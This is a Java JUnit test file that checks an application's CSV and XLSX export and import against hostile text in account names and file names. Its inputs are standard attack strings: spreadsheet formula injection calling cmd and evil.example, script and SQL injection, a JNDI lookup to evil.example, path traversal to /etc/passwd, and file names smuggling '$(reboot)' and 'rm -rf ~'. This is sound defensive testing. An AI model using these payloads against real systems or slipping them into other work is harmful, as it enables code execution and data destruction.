package org.peyvand.cli.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.peyvand.base.Outcome;
import org.peyvand.base.Progress;
import org.peyvand.base.culture.Culture;
import org.peyvand.core.model.Account;
import org.peyvand.exchange.ExportOptions;
import org.peyvand.exchange.Exports;
import org.peyvand.exchange.ImportMode;
import org.peyvand.exchange.ImportOptions;
import org.peyvand.exchange.ImportReport;
import org.peyvand.exchange.Imports;
import org.peyvand.exchange.PlanOptions;
import org.peyvand.persistence.Criteria;
import org.peyvand.persistence.Query;
import org.peyvand.persistence.Row;
import org.peyvand.persistence.UnitOfWork;
import org.peyvand.testing.MemoryDatabase;

/** Texts that somebody chose to do harm, through the real database and out again: nothing runs, nothing is lost, nothing stops the rest. */
@ExtendWith(MemoryDatabase.class)
class HostileTextsTest {
    /** Formulas with what hides them, page code, statements, marks of direction, halves of letters. */
    static final List<String> TEXTS = List.of("=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+cmd", "@SUM(A1)", " =1+1", "\u00A0=1+1",
        "'=1+1", "''=1+1", "\uFEFF=1", "\u202E=1", "\uFF1D1+1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE ACCOUNT; --",
        "\" OR \"\"=\"", "%' ESCAPE '", "_%\\", "${jndi:ldap://evil.example/x}", "{0}{1}", "{", "%s%n", "../../etc/passwd", "CON", "a\u202Egnp.exe",
        "Z" + "\u0316".repeat(200), "x\uD83D\uDE00y", "ﷺ".repeat(100), "a,b;c\td|e", "\"quoted\"", "line\u2028break", "NULLs", "#N/A!", "true", "1e309");

    private final UnitOfWork work;
    private final Imports imports;
    private final Exports exports;

    @TempDir
    Path folder;

    HostileTextsTest(UnitOfWork work, Imports imports, Exports exports) {
        this.work = work;
        this.imports = imports;
        this.exports = exports;
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "xlsx"})
    void whatGoesOutIsHarmlessAndComesInAgainWithoutLoss(String format) throws IOException {
        clear();
        for (String text : TEXTS) {
            add(text);
        }
        List<String> before = names();
        Path file = folder.resolve("all." + format);
        Outcome<Long> exported = exports.export(Query.of(Account.class), List.of("number", "name"), file, ExportOptions.of(Culture.english()), Progress.none());
        assertEquals((long) before.size(), exported.isDone() ? exported.value() : -1L, () -> exported.diagnostics().toString());
        if (format.equals("csv")) {
            for (String line : Files.readString(file).replace("\uFEFF", "").split("\r\n")) {
                String cell = line.substring(line.indexOf(',') + 1).replaceFirst("^\"", "");
                assertFalse(cell.strip().matches("(?s)[\\p{Cf}\\p{Cc}\\p{Z}]*[=+@\uFF1D].*|-1.*"), "a spreadsheet would run " + cell);
            }
        }
        ImportReport unchanged = run(file, ImportMode.BOTH);
        assertTrue(unchanged.complete(), unchanged.tables().toString());
        assertEquals(before, names(), "the same import changes nothing");
        clear();
        run(file, ImportMode.BOTH);
        assertEquals(before, names(), "an empty company gets the same texts");
    }

    /** Half a pair of surrogates and NUL may be in a database on files; one such record must not keep all others from going out. */
    @Test
    void halfALetterStopsNoExport() throws IOException {
        clear();
        add("good");
        add("half \uD83D letter");
        add("nul \u0000 here");
        for (String format : List.of("csv", "xlsx")) {
            Path file = folder.resolve("half." + format);
            Outcome<Long> exported = exports.export(Query.of(Account.class), List.of("name"), file, ExportOptions.of(Culture.english()), Progress.none());
            assertTrue(exported.isDone(), () -> format + exported.diagnostics());
            assertEquals((long) names().size(), exported.value());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\u202Ebc.csv", "$(reboot).csv", "; rm -rf ~.csv", "CON.csv", "%2e%2e%2f.csv", "<b>x.csv", "a'b\"c.csv"})
    void filesMayBeCalledWhateverTheyLike(String name) throws IOException {
        clear();
        Path file = Files.writeString(folder.resolve(name), "account number,name\nF1,Named\nF2,\n");
        ImportReport report = run(file, ImportMode.BOTH);
        assertEquals(List.of("Named"), names());
        assertEquals(1, report.refused());
        try (Stream<Path> all = Files.walk(folder)) {
            assertTrue(all.allMatch(path -> path.startsWith(folder)));
        }
        assertTrue(report.tables().getFirst().refusedFile().startsWith(folder), "the refused rows stay in their folder");
    }

    private void add(String text) {
        work.write(session -> {
            Account account = new Account();
            account.setName(text);
            account.setNumber("H" + (100 + session.count(Query.of(Account.class))));
            return Outcome.done(session.add(account));
        });
    }

    private void clear() {
        work.write(session -> {
            session.list(Query.of(Account.class)).forEach(session::remove);
            return Outcome.done(null);
        });
    }

    private List<String> names() {
        List<String> names = new ArrayList<>();
        for (Row row : work.read(session -> session.select(Query.of(Account.class).where(Criteria.everything()), "number", "name"))) {
            names.add(row.get("name", String.class));
        }
        return names.stream().sorted().toList();
    }

    private ImportReport run(Path file, ImportMode mode) {
        return imports.run(imports.plan(List.of(file), PlanOptions.of(Culture.english())), ImportOptions.standard().withMode(mode).withRefusedFolder(folder),
            Progress.none());
    }
}
